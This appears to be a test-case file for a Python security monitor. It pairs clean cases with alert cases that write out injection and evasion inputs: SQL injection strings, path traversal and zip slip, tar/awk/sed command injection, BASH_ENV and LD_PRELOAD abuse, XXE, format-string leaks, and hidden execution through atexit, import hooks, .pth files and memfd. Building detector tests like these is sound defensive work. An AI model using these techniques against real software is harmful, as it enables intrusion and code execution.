C("13-dataclass", "import dataclasses,os,subprocess,socket\n@dataclasses.dataclass\nclass A:\n  k:str=dataclasses.field(default_factory=lambda: os.getenv('SECRET_KEY'))\n  def __post_init__(s): s.v=subprocess.run(['true']); s.a=socket.getaddrinfo('localhost',80)\nA()\n@dataclasses.dataclass\nclass B:\n  k:str=dataclasses.field(default_factory=os.getcwd)\n  e:str=dataclasses.field(default_factory=lambda: os.environ.copy())\nB()\nfrom collections import namedtuple\nclass N(namedtuple('N','a b')):\n  def __new__(c): return super().__new__(c,os.getenv('A'),1)\nN()\nimport attr\n@attr.s\nclass C:\n  k=attr.ib(factory=lambda: os.getenv('SECRET_TOKEN'))\n  def __attrs_post_init__(s): subprocess.run(['true'])\nC()\n")
C("13-sqlalchemy", "import os\nfrom sqlalchemy import *\nfrom sqlalchemy.orm import declarative_base,Session\nB=declarative_base()\nclass U(B):\n  __tablename__='u'\n  id=Column(Integer,primary_key=True); n=Column(String,default=lambda: os.getenv('HOME'))\n  def __init__(s,**k): super().__init__(**k); os.getenv('SECRET_KEY')\ne=create_engine('sqlite:///a.db'); B.metadata.create_all(e)\nwith Session(e) as s:\n  s.add(U()); s.commit(); print(s.query(U).all())\n")
C("14-platform", "import platform,uuid,ctypes.util\nplatform.processor(); platform.platform(); uuid.getnode(); ctypes.util.find_library('c'); ctypes.util.find_library('nonexist')\n")
C("14-libimport", "import sys\nsys.path.insert(0,'lib/python3.11/site-packages')\nimport okpkg\n", {SP+"okpkg/__init__.py":"import platform,subprocess,ctypes.util,os\nplatform.uname().processor\nctypes.util.find_library('magic')\nfor a in (['git','version'],['fc-list','--help'],['uname','-p'],['ldconfig','-p']):\n  try: subprocess.run(a,capture_output=True)\n  except Exception: pass\nsubprocess.check_output(['git','--version']) if os.path.exists('/usr/bin/git') else 0\n"})
C("14-m-pkg", "x", {"lib/python3.11/site-packages/tool/__init__.py":"", "lib/python3.11/site-packages/tool/serve.py":"import subprocess,os,socket\nos.getenv('API_TOKEN')\nsubprocess.run(['true'])\nsocket.getaddrinfo('localhost',80)\ndef main():\n  subprocess.run(['ls'],capture_output=True); os.getenv('SECRET')\nif __name__=='__main__': main()\n"}, run="env PYTHONPATH=lib/python3.11/site-packages PY -m tool.serve")
C("15-programs", "import subprocess,os\nsubprocess.run(['git','--version'],capture_output=True); os.popen('echo hi').read(); os.system('true'); subprocess.run('echo hi | cat',shell=True,capture_output=True)\np=os.fork()\nif not p: os.execvp('true',['true'])\nos.waitpid(p,0)\nos.spawnlp(os.P_WAIT,'true','true')\nimport asyncio\nasync def f(): await (await asyncio.create_subprocess_shell('true')).wait(); await (await asyncio.create_subprocess_exec('true')).wait()\nasyncio.run(f())\nos.waitpid(os.posix_spawn('/bin/true',['true'],os.environ),0)\n")
C("15-signal", "import os,signal,subprocess,socket\np=subprocess.Popen(['sleep','5']); os.kill(p.pid,signal.SIGTERM); p.wait()\ns=socket.socket(); s.bind(('127.0.0.1',0)); s.listen()\nimport ctypes; ctypes.CDLL(None).getpid()\nprint(eval('1+1'), eval('x*2',{'x':3})); exec('a=1')\nimport sys; sys.settrace(None); sys.setprofile(None)\n")
C("16-startproject", "x", run="sh -c 'PY -m django startproject shop && cd shop && PY manage.py startapp cart && PY manage.py check && PY manage.py migrate && PY manage.py test'".replace("'",'"'))
C("16-django-admin", "x", run="sh -c 'django-admin startproject shop2'".replace("'",'"'))
C("16-runserver", "x", run="sh -c 'PY -m django startproject shop && cd shop && PY manage.py migrate && (timeout -s INT 12 PY manage.py runserver 8918 & sleep 5; curl -s http://127.0.0.1:8918/ | head -c 20; touch shop/urls.py; sleep 3; curl -s http://127.0.0.1:8918/admin/login/ | head -c 20; wait); true'".replace("'",'"'))
C("16-flask-debug", "import flask\napp=flask.Flask(__name__)\n@app.route('/')\ndef i(): return flask.render_template_string('hi {{ x }}',x=flask.request.args.get('q'))\n", run="sh -c '(timeout -s INT 9 PY -m flask --app main --debug run --port 8919 & sleep 4; curl -s http://127.0.0.1:8919/?q=../x; touch main.py; sleep 2; curl -s http://127.0.0.1:8919/; wait); true'".replace("'",'"'))
PT={"app.py":"import subprocess,os\ndef f(p):\n  open(p,'w').write('x'); return subprocess.run(['true']).returncode\n","test_app.py":"import app,os,pytest,subprocess,sys\ndef test_a(tmp_path,monkeypatch):\n  monkeypatch.setenv('X','1'); assert app.f(tmp_path/'x')==0\ndef test_b(tmp_path,monkeypatch):\n  (tmp_path/'mod1.py').write_text('a=1'); monkeypatch.syspath_prepend(tmp_path); import mod1; assert mod1.a==1\ndef test_c(): assert eval('1+1')==2\n@pytest.mark.parametrize('p',['../../etc/passwd',\"x'; drop\"])\ndef test_d(p): assert p\ndef test_tmp():\n  import tempfile,importlib\n  d=tempfile.mkdtemp(); open(d+'/modx.py','w').write('b=2'); sys.path.insert(0,d); import modx; assert modx.b==2\n"}
C("16-pytest", "x", PT, run="PY -m pytest -q")
C("16-xdist", "x", PT, run="PY -m pytest -q -n 2")
C("16-unittest", "x", {"test_u.py":"import unittest,tempfile,subprocess\nclass T(unittest.TestCase):\n  def test(self):\n    with tempfile.TemporaryDirectory() as d: open(d+'/x','w')\n    subprocess.run(['true'])\n"}, run="PY -m unittest -v")
C("16-pip", "x", {"pkg/setup.py":"from setuptools import setup\nsetup(name='okp',version='1',py_modules=['okp'])\n","pkg/okp.py":"x=1\n"}, run="PY -m pip install --no-build-isolation --no-deps --no-index --break-system-packages --target t ./pkg")
C("16-pip-pyproject", "x", {"pkg/pyproject.toml":"[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n[project]\nname='okq'\nversion='1'\n[tool.setuptools]\npy-modules=['okq']\n","pkg/okq.py":"x=1\n"}, run="PY -m pip install --no-build-isolation --no-deps --no-index --break-system-packages --target t ./pkg")
C("16-venv", "x", run="sh -c 'PY -m venv --without-pip v && v/bin/python -c pass && PY -m compileall -q . && PY -m json.tool /dev/null; true'".replace("'",'"'))
C("16-celery", "import celery\napp=celery.Celery('main',broker='memory://',backend='cache+memory://')\n@app.task\ndef add(a,b): return a+b\n", {"go.py":"import main,threading,time\nfrom celery.contrib.testing.worker import start_worker\nmain.app.loader.import_task_module('celery.contrib.testing.tasks')\nwith start_worker(main.app,perform_ping_check=False,pool='solo'):\n  r=main.add.delay(1,2); time.sleep(2); print(r.status)\n"}, run="PY go.py")
C("16-celery-prefork", "import celery\napp=celery.Celery('main',broker='filesystem://',broker_transport_options={'data_folder_in':'b','data_folder_out':'b'})\n@app.task\ndef add(a,b): return a+b\n", {"b/x":""}, run="timeout -s INT 8 PY -m celery -A main worker -c 2 -l ERROR")
C("16-jinja", "import jinja2,os\ne=jinja2.Environment(loader=jinja2.FileSystemLoader('.'))\ndef rates(): \n  import subprocess; subprocess.run(['true']); return os.getenv('RATE')\nprint(e.get_template('a.html').render(rates=rates,url=os.path.join))\nprint(e.from_string('{{ rates() }} {% for i in range(3) %}{{ loop.index }}{% endfor %}').render(rates=rates))\n", {"a.html":"{{ rates() }} {% macro m(x) %}{{x}}{% endmacro %}{{ m(1) }} {{ url('a','b') }}"})
C("16-idle", "import http.server,threading,urllib.request,logging.config,tempfile,zipfile,tarfile,sqlite3,csv,json,ssl,email,smtplib\nd=tempfile.mkdtemp(); open(d+'/a..b','w')\nzipfile.ZipFile(d+'/z','w').close(); tarfile.open(d+'/t','w').close(); sqlite3.connect(d+'/s').execute('create table a(b)')\nlogging.config.dictConfig({'version':1})\nssl.create_default_context()\n")
C("16-clean-client", R+"import subprocess,urllib.request,sqlite3\nserve(lambda t: (subprocess.run(['true',t]), open('x','w').write(t), sqlite3.connect(':memory:').execute('select ?',(t,))), \"O'Reilly ../ <b> select\")\nserve(lambda t: open(t+'.txt','w'),'notes')\nserve(lambda t: os.listdir('.'),'notes')\nserve(lambda t: os.makedirs('d/'+t),'a/b')\n")
C("16-aio", "import aiohttp,asyncio\nfrom aiohttp import web\nasync def h(r): return web.Response(text=r.query.get('q',''))\nasync def f():\n  app=web.Application(); app.router.add_get('/',h); r=web.AppRunner(app); await r.setup(); s=web.TCPSite(r,'127.0.0.1',8921); await s.start()\n  async with aiohttp.ClientSession() as c:\n    for i in range(5):\n      async with c.get('http://127.0.0.1:8921/?q=a..b') as x: await x.text()\nasyncio.run(f())")
C("16-repl", "import code\nx=1\nx+1\nimport os\nos.getenv('A')\nimport subprocess\nsubprocess.run(['true'])\n", run="sh -c \"PY -i < main.py\"")
C("16-runpy", "x", {"pkg/__init__.py":"","pkg/__main__.py":"import subprocess,os\nsubprocess.run(['true']); os.getenv('TOKEN')\n"}, run="PY -m pkg")
C("16-zipapp","x",{"z/__main__.py":"import os,subprocess\nos.getenv('TOKEN'); subprocess.run(['true'])\n"},run="sh -c \"PY -m zipapp z && PY z.pyz\"")
C("16-pdb", "print(1)\n", run="sh -c \"printf 'n\\nc\\nq\\n' | PY -m pdb main.py; true\"")
C("16-timeit", "x", run="sh -c \"PY -m timeit -n 2 pass; PY -m cProfile main2.py; PY -m trace -c main2.py; PY -m http.server --help; PY -m doctest main2.py\"", files={"main2.py":"'''\n>>> 1+1\n2\n'''\nimport os\nos.getenv('A')\n"})

# What got past the pack once: by a blind attacker.  Statements of SQLite.
Q = R + "import sqlite3\nb=sqlite3.connect(':memory:')\nb.execute('create table t(a,b)'); b.execute(\"insert into t values('x','s1')\")\n"
A("17-sql-connection", Q+"serve(lambda t: print(b.execute(\"select * from t where a='%s'\" % t).fetchall()), \"y' or 1=1--\")")
A("17-sql-cursor", Q+"serve(lambda t: print(b.cursor().execute('select * from t order by '+t).fetchall()), '(case when (select 1) then a else b end)')")
A("17-sql-script", Q+"serve(lambda t: b.executescript(\"update t set a='%s'\" % t), \"z'; delete from t; --\")")
A("17-sql-many", Q+"serve(lambda t: b.executemany(\"insert into t values('\"+t+\"',?)\", [(1,)]), \"'||(select b from t)||'\")")
C("17-sql-bound", Q+"serve(lambda t: (b.execute('select * from t where a=?',(t,)), b.execute('select * from t where a like ?',('%'+t+'%',))), \"y' or 1=1--\")")
C("17-sql-text", Q+"serve(lambda t: b.execute(\"select * from t where a='%s'\" % t), 'tea -- or pot; select')")
# Paths as filters leave them, and that are the client's from end to end.
W = R + "os.makedirs('d',exist_ok=True); open('secret.txt','w').write('s'); open('app.ini','w').write('i'); B=os.getcwd()+'/d/'\n"
A("17-path-stripped", W+"serve(lambda t: print(open(B+t.replace('../','')).read()), '....//secret.txt')")
A("17-path-backslash", W+"serve(lambda t: print(open(B+t.replace(chr(92),'/')).read()), '..'+chr(92)+'secret.txt')")
A("17-path-wide", W+"import unicodedata\nserve(lambda t: print(open(B+unicodedata.normalize('NFKC',t)).read()), chr(0x2024)*2+'/secret.txt')")
A("17-path-worked-out", W+"serve(lambda t: print(open(os.path.normpath(B+t)).read()), '../'*12+'etc/hostname')")
A("17-path-settings", W+"serve(lambda t: print(open(t).read()), 'app.ini')")
A("17-path-glob", W+"import glob\nserve(lambda t: print(glob.glob(B+t)), '../*.txt')")
A("17-zip", W+"import zipfile,io\no=io.BytesIO(); z=zipfile.ZipFile(o,'w'); z.writestr('../planted','x'); z.close()\nz=zipfile.ZipFile(o)\nfor n in z.namelist(): open(B+n,'wb').write(z.read(n))")
C("17-path-own", W+"open('d/shop.ini','w').write('x'); open('d/my..v2.txt','w')\nserve(lambda t: open(B+t), 'shop.ini'); serve(lambda t: open(B+t), 'my..v2.txt')")
# Programs: their scripts, URLs, environment and input.
S = R + "import subprocess\n"
A("17-awk", S+"serve(lambda t: subprocess.run(['awk',t],input=b'a'), 'BEGIN{system(\"true\")}')")
A("17-sed", S+"serve(lambda t: subprocess.run(['sed','s/x/'+t+'/','/etc/hostname']), 'y/;1e true #')")
A("17-tar-split", S+"serve(lambda t: subprocess.run(['tar','cf','/dev/null']+t.split()), 'main.py --checkpoint=1 --checkpoint-action=exec=true')")
A("17-bash-env", S+"serve(lambda t: subprocess.run(['bash','-c','true'],env=dict(os.environ,BASH_ENV=t)), '$(true)')")
A("17-environ", S+"def f(t): os.environ['LD_PRELOAD']=t\nserve(f, '/srv/none/x.so')")
A("17-stdin", S+"serve(lambda t: subprocess.run(['sh'],input=b'echo '+t.encode()), 'a; id')")
A("17-executable", S+"serve(lambda t: subprocess.run(['report'],executable=t), '/bin/true')")
C("17-programs", S+"serve(lambda t: (subprocess.run(['awk',t],input=b'a'), subprocess.run(['sed','s/x/'+t+'/','/etc/hostname'])), 'a-b (c)')\n"
  "serve(lambda t: (subprocess.run(['true'],env=dict(os.environ,TITLE=t)), subprocess.run(['cat'],input=t.encode())), 'a; b --exec=c')")
# Requests.
A("17-url-climbs", R+"import urllib.request\nserve(lambda t: urllib.request.urlopen('http://127.0.0.1:1/users/'+t+'/x'), '../../admin')")
A("17-unix", R+"import socket\nserve(lambda t: socket.socket(socket.AF_UNIX).connect(t), '/run/none.sock')")
A("17-xxe", R+"import io,xml.sax,xml.sax.handler as h\np=xml.sax.make_parser(); p.setFeature(h.feature_external_ges,True)\n"
  "p.parse(io.BytesIO(b'<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>'))")
C("17-url-dots", R+"import urllib.request\nserve(lambda t: urllib.request.urlopen('http://127.0.0.1:1/compare/'+t), 'v1..v2')")
# Formats and plug-ins.
I = R + "class Item:\n  def __init__(s): s.name='tea'\n"
A("17-format-map", I+"serve(lambda t: print(t.format_map({'i':Item()})), '{i.__init__.__globals__}')")
A("17-formatter", I+"import string\nserve(lambda t: print(string.Formatter().format('Dear {i.name} '+t,i=Item())), '{i.__class__.__mro__}')")
A("17-import-os", R+"serve(lambda t: print(__import__(t).listdir('/')), 'os')")
A("17-import-detour", R+"import importlib\nserve(lambda t: print(importlib.import_module(t)), 'timeit')")
A("17-locate", R+"import pydoc\nserve(lambda t: print(pydoc.locate(t)), 'os.popen')")
A("17-run-path", R+"import runpy\nserve(lambda t: runpy.run_path(t), '/srv/none/x.py')")
A("17-spec", R+"import importlib.util\nserve(lambda t: importlib.util.spec_from_file_location('p','plugins/'+t), '../up/x.py')")
C("17-plugins", I+"import importlib\nserve(lambda t: (importlib.import_module('plug_'+t), importlib.import_module(t)), 'csv')\n"
  "serve(lambda t: '{i.name} [_x_]'.format_map({'i':Item()})+t, '{i.name} [_x_]')", {"plug_csv.py": ""})
# Packages that act later, by another layer, or as a file beside the application.
pk("past-atexit", "import atexit,os\natexit.register(os.system,'true')")
pk("past-atexit-function", "import atexit,subprocess\n@atexit.register\ndef f(): subprocess.run(['sh','-c','true'])")
pk("past-timer", "import threading,os\nthreading.Timer(0.2,lambda: os.system('true')).start()")
pk("past-finder", "import sys,subprocess\nclass F:\n  def find_spec(s,n,p=None,t=None):\n    if n=='csv': subprocess.run(['true'])\nsys.meta_path.insert(0,F())\nimport csv")
pk("past-libc", "import ctypes\nctypes.CDLL(None).system(b'true')")
pk("past-marshal", "import marshal\nexec(marshal.loads(marshal.dumps(compile('x=1','x','exec'))))")
pk("past-bytes", "exec(bytes(b^7 for b in bytes(b^7 for b in b'x=1')))")
pk("past-pth-renamed", "import os\nopen('zz.txt','w').close(); os.rename('zz.txt','zz.pth')")
pk("past-fileless", "import os\nf=os.memfd_create('x'); os.write(f,b'#!/bin/sh\\ntrue\\n')\np=os.fork()\nif not p: os.execve('/proc/self/fd/%d'%f,['x'],{})\nos.waitpid(p,0)")
A("17-module", "import helper", {"helper.py": "import subprocess\nsubprocess.run(['sh','-c','true'])\n"})
A("17-shadow", "import colorsys", {"colorsys.py": "x=1\n"})
C("17-module-clean", "import helper", {"helper.py": "import os,subprocess,threading,atexit\nsubprocess.run(['git','--version']); env=os.environ.copy()\n"
                                       "atexit.register(print,'end'); threading.Thread(target=lambda: subprocess.run(['true'])).start()\n"})
